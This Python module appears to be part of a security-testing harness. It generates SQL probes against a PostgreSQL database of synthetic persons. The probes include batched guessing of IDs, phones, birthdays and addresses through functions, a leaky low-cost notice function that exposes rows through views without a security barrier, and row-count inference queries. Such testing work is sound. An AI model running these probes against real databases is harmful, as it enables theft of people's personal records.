"""For every function that reads and takes a value of the caller's choice: all guesses at once.

A guess of one parameter runs through every value by which the twins differ (the
number, days around every birthday that a rule may ask for, phone, name, house),
the other parameters being what an honest caller would send for that person. One
statement holds them all, so that a few hundred calls cover the surface.
"""

import json

from call import Call
from world import quote

GUESSED = ("date", "timestamptz", "timestamp", "daterange", "tstzrange", "citizen_id", "phone", "text", "varchar", "jsonb", "json", "address", "bytea", "name")
BATCH = 60
# Each answer says which guess it is for: that of one twin would else be taken for the other's. No register has
# a thousand rows here; the tables of divisions, which are no secret, have forty thousand.
RUN = """DO $attack$ DECLARE s text; r record; n int := 0; BEGIN
 FOREACH s IN ARRAY %s::text[] LOOP
  n := n + 1; RAISE NOTICE 'guess %%', n;
  BEGIN FOR r IN EXECUTE s || ' LIMIT 1000' LOOP RAISE NOTICE '%%', r; END LOOP;
  EXCEPTION WHEN others THEN RAISE NOTICE '%% %%', SQLSTATE, SQLERRM; END;
 END LOOP; END $attack$"""

# A function of the caller's own, cheap enough to be asked first: a view without a barrier shows it hidden rows.
TELL = """CREATE FUNCTION pg_temp.tell(value anyelement) RETURNS boolean LANGUAGE plpgsql COST 0.0000001 AS
 $$ BEGIN RAISE NOTICE 'told %', value; RETURN true; END $$"""


def batch(statements):
    return RUN % ("ARRAY[" + ", ".join(quote(s) for s in statements) + "]")


def of_functions(caller, per_group):
    """Calls of many guesses each; call.parts holds the single statements."""
    for function in caller.functions:
        if function.schema == "pg_catalog" or function.kind != "f" or not (function.definer or function.volatile != "i"):
            continue
        for at, oid in enumerate(function.types):
            plain = caller.surface.types[oid][6]
            if plain not in GUESSED and not function.names[at].removeprefix("p_") in ("house", "house_id"):
                continue
            statements = list(guesses(caller, function, at, plain, per_group))
            for start in range(0, len(statements), BATCH):
                call = Call(str(function), batch(statements[start:start + BATCH]), query=False)
                call.parts = statements[start:start + BATCH]
                yield call


def guesses(caller, function, at, plain, per_group):
    maker, pool = caller.maker, caller.maker.pool
    chosen = [p for p in pool.persons if p.group != "foreign" and p.index in (0, 20, 23, 1, 4, 22, 2, 11)[:per_group]]
    for person in chosen:
        maker.next_call()
        maker.person, maker.kind, maker.hostile = person, "person", 0
        others = [maker.value(oid, name) for oid, name in zip(function.types, function.names)]
        # Parameters with defaults are left out where they come after the guess.
        last = max(at + 1, len(function.types) - function.defaults)
        for value in values(pool, person, plain):
            arguments = others[:last]
            arguments[at] = "%s::%s" % (quote(value), caller.surface.type_name(function.types[at]))
            yield "SELECT * FROM %s(%s)" % (function.called(), ", ".join(arguments))


def of_relations(caller, per_group):
    """Conditions on columns by which hidden rows are found, in the forms that count rows; with a function that tells what it sees."""
    pool = caller.maker.pool
    for relation in caller.ours:
        columns = relation.readable()
        asked = " AND ".join('pg_temp.tell(t."%s")' % column[0] for column in columns)
        told = Call(relation.name, TELL + "; SELECT count(*) FROM %s t WHERE %s" % (relation.name, asked))
        told.parts = [told.text]
        yield told
        named = {c[0] for c in columns}
        for person in [p for p in pool.persons if p.group != "foreign" and p.index in (0, 20, 23, 1)[:per_group]]:
            for name, oid in columns:
                plain = caller.surface.types[oid][6]
                if plain in ("citizen_id", "phone", "date", "address", "int8"):
                    tests = list(conditions(pool, person, name, plain, named))
                    for test in tests if per_group > 2 else tests[:2]:
                        call = Call(relation.name, "SELECT count(*) FROM %s WHERE %s" % (relation.name, test))
                        call.counted = True
                        yield call


def conditions(pool, person, name, plain, named):
    if plain == "int8":
        if name == "house_id":
            for version in "ab":
                if "person_id" in named:
                    yield "person_id = %s AND house_id = %s" % (person.id, person.houses[version][0])
                yield "house_id = %s" % person.houses[version][0]
        return
    guessed = values(pool, person, plain)
    for value in guessed[-2:] if plain == "date" else guessed:
        for operator in ("=", ">=", "<"):
            yield '"%s" OPERATOR(%s.%s) %s' % (name, "pg_catalog" if plain == "date" else "ybss", operator, quote(value))


def values(pool, person, plain):
    if plain in ("date", "timestamptz", "timestamp"):
        return [str(day) for day in pool.days(person)]
    if plain in ("daterange", "tstzrange"):
        return ["[%s,)" % day for day in pool.days(person)]
    if plain in ("int8", "int4"):
        return [person.houses[v][0] for v in "ab"]
    if plain == "citizen_id":
        return [person.number[v] for v in "ab"] if person.number else []
    if plain == "phone":
        return [person.phone[v] for v in "ab"]
    if plain == "address":
        return [person.houses[v][1] for v in "ab"]
    if plain in ("jsonb", "json"):
        return [json.dumps({key: value}, ensure_ascii=False) for v in "ab" for key, value in (
            ("citizen_id", (person.number or person.born)[v] if person.number else ""), ("phone", person.phone[v]), ("name", person.name[v]),
            ("birth_date", str(person.born[v])), ("as_of", str(person.born[v].replace(year=person.born[v].year + 18))))]
    texts = [text for v in "ab" for text in pool.guesses(person, v)]
    return texts + [t[:k] for t in texts for k in (len(t) // 2, len(t) - 2)] if plain != "bytea" else ["\\x" + t.encode().hex() for t in texts]
